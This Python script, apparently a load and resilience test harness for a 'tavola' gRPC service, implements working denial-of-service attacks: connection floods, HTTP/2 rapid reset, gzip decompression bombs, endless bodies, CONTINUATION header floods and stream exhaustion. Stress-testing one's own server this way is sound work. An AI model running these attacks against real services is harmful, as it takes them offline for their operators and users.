#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What a caller can do to a server, without a credential or with one: one function per attack, each goes on until its time is over.

Who is hung up on connects again at once. usage: attacks.py NAME [tls:]HOST:PORT SECONDS [TOKEN]; prints a line when it begins, then what was done, as JSON.
"""

import itertools
import json
import socket
import sys
import time
import zlib

from frames import (CONTINUATION, DEFAULT_WINDOW, END_HEADERS, HEADERS, INITIAL_WINDOW_SIZE, MAX_WINDOW, Connection, HungUp,
                    data_frames, frame, header_block, message, open_stream, reset, varint, wider)

IMPORT = "/tavola.v1.EntityService/ImportEntities"
CREATE_TABLE = "/tavola.v1.TableService/CreateTable"
BATCH_GET = "/tavola.v1.EntityService/BatchGetEntities"
QUERY = "/tavola.v1.EntityService/QueryEntities"
GET = "/tavola.v1.EntityService/GetEntity"
UPSERT = "/tavola.v1.EntityService/InsertOrReplaceEntity"
CHECK = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"

MIB = 1024 * 1024
SOURCE = "127.0.0.2"
REFUSED_PAUSE = 0.01  # seconds between two tries of a caller that is refused
MAX_FRAME = (1 << 24) - 1


def gzip(pieces):
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return b"".join(packer.compress(piece) for piece in pieces) + packer.flush()


class Tally:
    """What was done."""

    def __init__(self, seconds):
        self.seconds = seconds
        self.until = None
        self.counts = {"connections": 0, "hung_up": 0, "sent": 0}

    def add(self, name, more=1):
        self.counts[name] = self.counts.get(name, 0) + more

    def begin(self):
        """What the attack needs is prepared."""
        print("attacking", flush=True)
        self.until = time.monotonic() + self.seconds

    def is_over(self):
        return time.monotonic() >= self.until


def again_and_again(address, tally, attack, pairs=()):
    """Repeat the attack on a new connection whenever the last one has ended."""
    tally.begin()
    while not tally.is_over():
        try:
            with Connection(address, SOURCE, pairs) as connection:
                tally.add("connections")
                attack(connection, tally)
        except HungUp:
            tally.add("hung_up")
            time.sleep(REFUSED_PAUSE)


def connections(address, tally):
    """C1: 700 connections that say nothing, closed all together, again and again."""
    tally.begin()
    while not tally.is_over():
        held = []
        for _ in range(700):
            one = socket.socket()
            one.settimeout(1)
            try:
                one.bind((SOURCE, 0))
                one.connect(tuple(address.rsplit(":", 1)[:1]) + (int(address.rsplit(":", 1)[1]),))
            except OSError:
                one.close()
                tally.add("hung_up")
                break
            held.append(one)
            tally.add("connections")
        time.sleep(0.3)
        for one in held:
            one.close()


def silent(address, tally):
    """C1: 1,000 connections that say nothing and stay; those that are closed come back."""
    held = []
    tally.begin()
    while not tally.is_over():
        for one in list(held):
            try:
                if one.recv(4096) == b"":
                    raise OSError
            except BlockingIOError:
                continue
            except OSError:
                one.close()
                held.remove(one)
                tally.add("hung_up")
        while len(held) < 1000 and not tally.is_over():
            one = socket.socket()
            one.settimeout(1)
            try:
                one.bind((SOURCE, 0))
                one.connect((address.rsplit(":", 1)[0], int(address.rsplit(":", 1)[1])))
            except OSError:
                one.close()
                break
            one.setblocking(False)
            held.append(one)
            tally.add("connections")
        time.sleep(0.05)


RESETS = b"".join(open_stream(id, GET) + reset(id) for id in range(1, 2 * 20000, 2))


def rapid_reset(address, tally):
    """C2: streams that are opened and reset at once."""

    def attack(connection, tally):
        for at in range(0, len(RESETS), len(RESETS) // 20):
            if not connection.send(RESETS[at : at + len(RESETS) // 20], tally.until):
                return
            tally.add("sent", 1000)

    again_and_again(address, tally, attack)


def bomb(address, tally, token=None):
    """C3: a request of half a megabyte that inflates to 512 MB."""
    packed = gzip([bytes(MIB)] * 512)
    more = {"grpc_encoding": "gzip", **({"authorization": "Bearer " + token} if token else {})}

    def attack(connection, tally):
        stream = 1
        while not tally.is_over():
            connection.windows[stream] = connection.initial
            connection.send(open_stream(stream, UPSERT, **more), tally.until)
            send_body(connection, stream, message(packed, True), tally)
            connection.read_for(0.2)
            stream += 2

    again_and_again(address, tally, attack)


def send_body(connection, stream, body, tally):
    """A whole body, as fast as the windows allow."""
    at = 0
    while at < len(body) and stream not in connection.ended:
        size = min(len(body) - at, 16384, connection.window, connection.windows[stream])
        if size <= 0:
            if not connection.turn(tally.until):
                return
            continue
        last = at + size == len(body)
        if not connection.send(data_frames(stream, body[at : at + size], last), tally.until):
            return
        connection.window -= size
        connection.windows[stream] -= size
        at += size
        tally.add("sent", size)


def endless_bodies(address, tally):
    """C4: 128 streams, each with a message of 15 MB that never ends."""
    piece = bytes(16384)
    head = message(b"")[:1] + (15 * MIB).to_bytes(4, "big")

    def attack(connection, tally):
        streams = range(1, 257, 2)
        left = {stream: 15 * MIB - 1 for stream in streams}
        for stream in streams:
            connection.send(open_stream(stream, UPSERT) + data_frames(stream, head, False), tally.until)
            connection.windows[stream] = connection.initial - len(head)
            connection.window -= len(head)
        while not tally.is_over():
            moved = 0
            for stream in streams:
                size = min(len(piece), connection.window, connection.windows[stream], left[stream])
                if size > 0:
                    connection.send(data_frames(stream, piece[:size], False), tally.until)
                    connection.window -= size
                    connection.windows[stream] -= size
                    left[stream] -= size
                    moved += size
            tally.add("sent", moved)
            if moved == 0 and not connection.turn(tally.until):
                return

    again_and_again(address, tally, attack)


def reflection(address, tally):
    """C5: 100 reflection requests, 15 kB of gzip with 15 MB of unknown fields each, by a caller that reads no answer.
    """
    request = b"\x3a\x01*" + b"\xfa\x06\xe0\xff\xbf\x07" + bytes(15 * MIB - 32)
    packed = gzip([request])

    def attack(connection, tally):
        for stream in range(1, 201, 2):
            connection.windows[stream] = connection.initial
            connection.send(open_stream(stream, REFLECTION, grpc_encoding="gzip"), tally.until)
            send_body(connection, stream, message(packed, True), tally)
            tally.add("requests")
        connection.read_for(max(0, tally.until - time.monotonic()))

    again_and_again(address, tally, attack, [(INITIAL_WINDOW_SIZE, 0)])


def reflection_unread(address, tally):
    """C5: small reflection requests on 100 streams, whose answers are not read."""
    request = message(b"\x22\x17tavola.v1.EntityService")

    def attack(connection, tally):
        for stream in range(1, 201, 2):
            connection.send(open_stream(stream, REFLECTION) + data_frames(stream, request * 20, False), tally.until)
            tally.add("requests", 20)
        connection.read_for(max(0, tally.until - time.monotonic()))

    again_and_again(address, tally, attack, [(INITIAL_WINDOW_SIZE, 0)])


def calls_unread(address, tally, path, request, token, count):
    """Many calls at once on each connection, whose answers are not read."""
    def attack(connection, tally):
        for stream in range(1, 2 * count, 2):
            if not connection.send(open_stream(stream, path, authorization="Bearer " + token)
                                   + data_frames(stream, message(request)), tally.until):
                return
            tally.add("requests")
        connection.read_for(max(0, tally.until - time.monotonic()))

    again_and_again(address, tally, attack, [(INITIAL_WINDOW_SIZE, 0)])


def read_bytes(file):
    with open(file, "rb") as source:
        return source.read()


def prepared_calls(address, tally, token, path, at_once, *files):
    """The requests in files, one after another, by so many calls at once; a new one for each that is answered. All answers are read."""
    requests = [message(read_bytes(file)) for file in files]

    def attack(connection, tally):
        opened = 0
        connection.send(wider(0, MAX_WINDOW - DEFAULT_WINDOW), tally.until)
        while not tally.is_over():
            while opened - len(connection.ended) < int(at_once):
                stream = 2 * opened + 1
                connection.windows[stream] = connection.initial
                connection.send(open_stream(stream, path, authorization="Bearer " + token, grpc_timeout="500m"), tally.until)
                send_body(connection, stream, requests[opened % len(requests)], tally)
                opened += 1
                tally.add("requests")
            connection.read_for(0.01)

    again_and_again(address, tally, attack, [(INITIAL_WINDOW_SIZE, MAX_WINDOW)])


def unread_pages(address, tally, token):
    """H6: 300 pages of 3 MB, by a caller who reads none."""
    calls_unread(address, tally, QUERY, b"\x0a\x06\x0a\x04wide", token, 300)


def many_elements(address, tally, token):
    """H2: BatchGets of some kilobytes that inflate to two million empty keys."""
    packed = gzip([b"\x0a\x04wide", b"\x12\x00" * (2 * MIB - 1024)])

    def attack(connection, tally):
        stream = 1
        while not tally.is_over():
            connection.windows[stream] = connection.initial
            connection.send(open_stream(stream, BATCH_GET, grpc_encoding="gzip", authorization="Bearer " + token), tally.until)
            send_body(connection, stream, message(packed, True), tally)
            connection.read_for(0.05)
            tally.add("requests")
            stream += 2

    again_and_again(address, tally, attack)


def long_filters(address, tally, token):
    """H3: pages with as many searches as a filter may have, over megabytes of text, 64 at once."""
    searches = " or ".join(f"contains(Text,'{number}y')" for number in range(10, 26)).encode()
    query = b"\x0a\x04wide" + b"\x12" + varint(len(searches)) + searches

    def attack(connection, tally):
        request = b"\x0a" + varint(len(query)) + query
        stream = 1
        while not tally.is_over():
            for _ in range(64):
                connection.send(open_stream(stream, QUERY, authorization="Bearer " + token)
                                + data_frames(stream, message(request)), tally.until)
                tally.add("requests")
                stream += 2
            connection.read_for(0.2)

    again_and_again(address, tally, attack)


def make_tables(address, tally, token):
    """H5: tables made as fast as the server takes them, 32 calls at once."""
    numbers = itertools.count()

    def attack(connection, tally):
        stream = 1
        while not tally.is_over():
            for _ in range(32):
                name = b"made%d" % next(numbers)
                connection.send(open_stream(stream, CREATE_TABLE, authorization="Bearer " + token)
                                + data_frames(stream, message(b"\x0a" + varint(len(name)) + name)), tally.until)
                tally.add("requests")
                stream += 2
            connection.read_for(0.05)

    again_and_again(address, tally, attack)


def health(address, tally):
    """C6: 200 health checks, each 4 kB of gzip with two million unknown fields."""
    packed = gzip([b"\x7a\x00" * (2 * MIB - 1024)])

    def attack(connection, tally):
        for stream in range(1, 401, 2):
            connection.windows[stream] = connection.initial
            connection.send(open_stream(stream, CHECK, grpc_encoding="gzip"), tally.until)
            send_body(connection, stream, message(packed, True), tally)
            tally.add("requests")
        connection.read_for(max(0, tally.until - time.monotonic()))

    again_and_again(address, tally, attack)


def known_compressed(address, tally, token):
    """C6 with a credential: Gets of 4 kB on the wire that inflate to 4 MB of unknown fields."""
    packed = gzip([b"\x7a\x00" * (2 * MIB - 1024)])

    def attack(connection, tally):
        stream = 1
        while not tally.is_over():
            for _ in range(8):
                connection.windows[stream] = connection.initial
                connection.send(open_stream(stream, GET, grpc_encoding="gzip", authorization="Bearer " + token), tally.until)
                send_body(connection, stream, message(packed, True), tally)
                tally.add("requests")
                stream += 2
            connection.read_for(0.01)

    again_and_again(address, tally, attack)


def endless_header(address, tally):
    """C7: a header of 16 MB that never ends, in CONTINUATION frames."""
    piece = b"\x00" + b"\x05x-fil" + b"\x7f" + b"\x80\x80\x80\x04"  # a value of megabytes
    more = frame(CONTINUATION, 0, 1, bytes(16384)) * 64

    def attack(connection, tally):
        connection.send(frame(HEADERS, 0, 1, header_block(GET) + piece), tally.until)
        for _ in range(16):
            if not connection.send(more, tally.until):
                return
            tally.add("sent", len(more))
        connection.read_for(0.2)

    again_and_again(address, tally, attack)


def one_large_header(address, tally):
    """C7: the same in one frame."""

    def attack(connection, tally):
        head = frame(HEADERS, END_HEADERS, 1, b"")
        connection.send(MAX_FRAME.to_bytes(3, "big") + head[3:], tally.until)
        piece = header_block(GET) + b"\x00\x05x-fil\x7f\x80\x80\x80\x04" + bytes(MIB)
        for _ in range(15):
            if not connection.send(piece, tally.until):
                return
            tally.add("sent", len(piece))

    again_and_again(address, tally, attack)


def open_streams(path):
    """C8: 20,000 streams that stay open, by a caller that does not acknowledge the server's settings."""

    def run(address, tally):
        first = message(b"")
        opened = [open_stream(id, path) + (data_frames(id, first) if path == WATCH else b"") for id in range(1, 40001, 2)]

        def attack(connection, tally):
            connection.acknowledges = False
            for at in range(0, len(opened), 500):
                if not connection.send(b"".join(opened[at : at + 500]), tally.until):
                    return
                tally.add("sent", 500)
                connection.turn(tally.until)
            connection.read_for(max(0, tally.until - time.monotonic()))

        again_and_again(address, tally, attack)

    return run


ATTACKS = {
    "connections": connections,
    "silent": silent,
    "rapid_reset": rapid_reset,
    "bomb": bomb,
    "endless_bodies": endless_bodies,
    "reflection": reflection,
    "reflection_unread": reflection_unread,
    "health": health,
    "unread_pages": unread_pages,
    "many_elements": many_elements,
    "long_filters": long_filters,
    "make_tables": make_tables,
    "prepared_calls": prepared_calls,
    "known_compressed": known_compressed,
    "endless_header": endless_header,
    "one_large_header": one_large_header,
    "open_imports": open_streams(IMPORT),
    "open_watches": open_streams(WATCH),
}


def main():
    name, address, seconds = sys.argv[1:4]
    tally = Tally(float(seconds))
    ATTACKS[name](address, tally, *sys.argv[4:])
    print(json.dumps(tally.counts))


if __name__ == "__main__":
    main()
